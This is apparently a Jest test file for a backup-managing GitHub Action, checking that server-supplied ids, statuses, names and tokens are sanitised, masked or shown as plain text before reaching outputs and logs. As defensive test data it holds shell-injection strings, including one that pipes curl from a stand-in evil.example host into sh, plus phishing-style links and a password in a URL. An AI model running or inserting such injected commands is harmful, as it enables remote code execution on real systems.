/**
 * What the action hands on — outputs, the summary, the log — holds only what it checked, whatever a
 * server sends (issue: outputs a workflow can paste anywhere, the last gaps in the trust boundary).
 */
import { afterEach, describe, expect, it } from '@jest/globals'
import { micromark } from 'micromark'
import { gfm, gfmHtml } from 'micromark-extension-gfm'
import type { Simulator } from '../../simulator/server.js'
import {
  act,
  baseInputs,
  clientCredentials,
  failure,
  runChecked,
  startSimulator,
  TOKEN
} from '../helpers/e2e.js'

const HOSTILE_ID = 'x"; touch pwned; echo "'
const DAY = 86_400_000
let simulator: Simulator
afterEach(async () => simulator?.stop())

/** The summary as GitHub renders it: GitHub-flavoured Markdown, autolink literals included. */
function rendered(markdown: string): string {
  return micromark(markdown, { extensions: [gfm()], htmlExtensions: [gfmHtml()] })
}

describe('1. a server-chosen id or status never reaches an output unchecked', () => {
  it('ensure does not reuse a fresh backup whose id fails the id rule: it creates one', async () => {
    simulator = await startSimulator({ backupDurationMs: 500 })
    simulator.seed({ planetId: 'dev1', id: HOSTILE_ID, ageMs: 60_000 })
    const run = await act(simulator, { operation: 'ensure', planetId: 'dev1' })

    expect(run.exitCode).toBe(0)
    expect(run.outputs).toMatchObject({ reused: 'false', status: 'succeeded' })
    expect(run.outputs.backupId).toMatch(/^\d+$/)
    expect(run.warnings.join('\n')).toContain('neither acts on nor puts in an output')
  })

  it('list names a usable backup latest, and counts the other in one line', async () => {
    simulator = await startSimulator()
    const usable = simulator.seed({ planetId: 'dev1', ageMs: DAY })
    simulator.seed({ planetId: 'dev1', id: HOSTILE_ID, ageMs: 60_000 })
    const run = await act(simulator, { operation: 'list', planetId: 'dev1' })

    expect(run.exitCode).toBe(0)
    expect(run.outputs).toMatchObject({ latestBackupId: usable.id, count: '1' })
    expect(JSON.parse(run.outputs.backups)).toHaveLength(1)
    expect(run.summary).toContain('1 not touched — id not usable')
    expect(run.summary).not.toContain('touch pwned')
  })

  it('a create answered with such an id fails, naming what to look for', async () => {
    simulator = await startSimulator()
    simulator.addFault({
      route: 'create',
      action: 'status',
      status: 202,
      body: { id: HOSTILE_ID, status: 'succeeded', metadata: { name: 'pre-deploy' } }
    })
    const run = await act(simulator, {
      operation: 'create',
      planetId: 'dev1',
      metadataName: 'pre-deploy'
    })

    expect(run.exitCode).toBe(1)
    expect(run.outputs.backupId ?? '').toBe('')
    expect(failure(run)).toContain('an id the action neither acts on nor puts in an output')
    expect(failure(run)).toContain('Look for a backup named "pre-deploy" on planet dev1.')
  })

  it.each(['get', 'wait'])('%s fails when the answer is about another backup', async operation => {
    simulator = await startSimulator()
    const asked = simulator.seed({ planetId: 'dev1' })
    const other = simulator.seed({ planetId: 'dev1' })
    simulator.addFault({
      route: 'get',
      action: 'status',
      status: 200,
      body: simulator.view(other),
      times: 0
    })
    const run = await act(simulator, { operation, backupId: asked.id })

    expect(run.exitCode).toBe(1)
    expect(failure(run)).toContain(
      `Could not get backup ${asked.id} in star system pc: the answer is about another backup, "${other.id}"`
    )
    expect(run.outputs.backupId ?? '').toBe('')
  })

  it('a status a shell would run is written with its odd characters as _', async () => {
    simulator = await startSimulator()
    const seeded = simulator.seed({ planetId: 'dev1', status: '"; curl evil.example | sh; "' })
    const run = await act(simulator, { operation: 'get', backupId: seeded.id })

    expect(run.exitCode).toBe(0)
    expect(run.outputs.status).toBe('__ curl evil.example _ sh_ _')
  })
})

describe('2. nameFilter cannot be made to backtrack', () => {
  it('a 40,000-character name against *-*-*-*-prod is matched at once', async () => {
    simulator = await startSimulator()
    simulator.seed({ planetId: 'dev1', name: 'a-'.repeat(20_000), ageMs: 9 * DAY })
    simulator.seed({ planetId: 'dev1', name: 'eu-west-db-1-prod', ageMs: 8 * DAY })
    simulator.seed({ planetId: 'dev1', name: 'eu-west-db-2-prod', ageMs: 7 * DAY })
    const run = await act(
      simulator,
      { operation: 'prune', planetId: 'dev1', keepLast: '1', nameFilter: '*-*-*-*-prod' },
      { timeoutMs: 30_000 }
    )

    expect(run.exitCode).toBe(0)
    expect(run.outputs.count).toBe('1')
    expect(simulator.list()).toHaveLength(2)
  })
})

describe("3. token requests obey the step's deadline", () => {
  it('a token endpoint asking to come back in 30 s does not hold a 15 s wait', async () => {
    simulator = await startSimulator({
      faults: [{ route: 'token', action: 'status', status: 503, retryAfter: '30', times: 0 }]
    })
    const seeded = simulator.seed({ planetId: 'dev1', status: 'in_progress' })
    const run = await act(
      simulator,
      {
        ...clientCredentials(simulator),
        operation: 'wait',
        backupId: seeded.id,
        waitTimeout: '15s'
      },
      { timeoutMs: 40_000 }
    )

    expect(run.exitCode).toBe(1)
    expect(failure(run)).toContain('(attempt 1; no time left to try again)')
    expect(simulator.count('token')).toBe(1)
  })
})

describe('4. no link in the summary that the action did not make', () => {
  it('names that look like URLs, www. hosts and e-mail addresses render as text', async () => {
    simulator = await startSimulator()
    for (const name of [
      'https://evil.example/login',
      'see www.evil.example now',
      'help@evil.example',
      'mailto:help@evil.example',
      'HTTP://EVIL.EXAMPLE'
    ]) {
      simulator.seed({ planetId: 'dev1', name })
    }
    const run = await act(simulator, { operation: 'list', planetId: 'dev1' })

    expect(run.exitCode).toBe(0)
    const html = rendered(run.summary)
    expect(html).toContain('https://evil.example/login')
    expect(html).toContain('help@evil.example')
    expect(html.match(/<a\b[^>]*>/g) ?? []).toEqual([])
  })
})

describe('5. invisible characters are shown, not hidden', () => {
  it('zero widths, the soft hyphen, the Arabic letter mark and the BOM are escapes', async () => {
    simulator = await startSimulator()
    const invisible = [
      '\u061c',
      '\u200b',
      '\u200c',
      '\u200d',
      '\u2060',
      '\u2064',
      '\ufeff',
      '\u00ad'
    ]
    simulator.seed({ planetId: 'dev1', name: `pre${invisible.join('')}deploy` })
    const run = await act(simulator, { operation: 'list', planetId: 'dev1' })

    expect(run.exitCode).toBe(0)
    for (const char of invisible) {
      expect(run.summary.includes(char) || run.stdout.includes(char)).toBe(false)
    }
    expect(run.summary).toContain('pre\\\\u061c\\\\u200b')
  })
})

describe('6. URLs and host names keep no secret', () => {
  it('a refused baseUrl is quoted without its user name and password', async () => {
    simulator = await startSimulator()
    const run = await act(simulator, {
      operation: 'list',
      baseUrl: 'https://svc:P4ssw0rd@db.example.com'
    })

    expect(run.exitCode).toBe(1)
    expect(failure(run)).toContain('Input "baseUrl" is "https://***@db.example.com": use a URL')
    expect(`${run.stdout}${run.summary}`).not.toContain('P4ssw0rd')
  })

  it('a token placed in a redirect host name is masked lower-cased too', async () => {
    const mixedCase = 'Sim-Token-Ab12Cd34Ef56Gh78'
    simulator = await startSimulator({ tokens: [TOKEN, mixedCase] })
    const seeded = simulator.seed({ planetId: 'dev1' })
    simulator.addFault({
      route: 'get',
      action: 'status',
      status: 302,
      headers: { Location: `https://${mixedCase}.evil.example/` }
    })
    const run = await runChecked(simulator, {
      ...baseInputs(simulator),
      accessToken: mixedCase,
      operation: 'get',
      backupId: seeded.id
    })

    expect(run.exitCode).toBe(1)
    expect(failure(run)).toContain('HTTP 302 Found to https://***.evil.example')
    expect(`${run.summary}${failure(run)}`).not.toContain(mixedCase.toLowerCase())
    expect(run.stdout).toContain(`::add-mask::${mixedCase.toLowerCase()}`)
  })
})

describe('7. the token endpoint does not choose what is masked', () => {
  it('an access_token shorter than 16 characters is refused', async () => {
    simulator = await startSimulator({
      faults: [
        {
          route: 'token',
          action: 'status',
          status: 200,
          body: { access_token: 'id', token_type: 'Bearer', expires_in: 3600 }
        }
      ]
    })
    const seeded = simulator.seed({ planetId: 'dev1' })
    const run = await act(simulator, {
      ...clientCredentials(simulator),
      operation: 'get',
      backupId: seeded.id
    })

    expect(run.exitCode).toBe(1)
    expect(failure(run)).toContain(
      `The token endpoint ${simulator.tokenUrl} answered an access_token of 2 characters: a real one has at least 16, so the action refuses it.`
    )
    expect(run.stdout).not.toContain('::add-mask::id\n')
    expect(simulator.count('get')).toBe(0)
  })
})

describe('8. debug traces are redacted after decoding', () => {
  it('a token echoed with JSON escapes does not show in the debug log', async () => {
    const token = 'sim/token=7f3a9c1e2b4d'
    simulator = await startSimulator({ tokens: [token] })
    simulator.addFault({
      route: 'get',
      action: 'status',
      status: 404,
      rawBody: '{"message":"no backup for sim\\/token\\u003d7f3a9c1e2b4d"}'
    })
    const run = await runChecked(simulator, {
      ...baseInputs(simulator),
      accessToken: token,
      operation: 'get',
      backupId: '1000'
    })

    expect(run.exitCode).toBe(1)
    expect(run.stdout).toContain('::debug::← 404 from GET')
    const logged = run.stdout.split('\n').filter(line => !line.startsWith('::add-mask::'))
    expect(logged.join('\n')).not.toContain('7f3a9c1e2b4d')
    expect(failure(run)).toContain('HTTP 404 Not Found: no backup for ***')
  })
})
